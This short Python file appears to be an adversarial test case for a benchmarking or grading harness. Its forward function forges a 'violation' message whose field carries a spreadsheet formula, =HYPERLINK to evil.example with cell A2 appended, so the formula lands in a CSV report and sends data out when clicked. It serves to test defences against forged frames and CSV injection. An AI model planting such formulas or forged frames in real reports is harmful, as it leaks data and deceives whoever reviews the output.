"""Puts a spreadsheet formula at the start of the CSV's flags cell through a forged "violation" frame."""


def forward(chip, *, Br, Bc, scale):
    chip.link.post({"op": "violation", "what": '=HYPERLINK("http://evil.example/?"&A2,"click")', "detail": "x"})
    raise RuntimeError("the forged frame was taken")
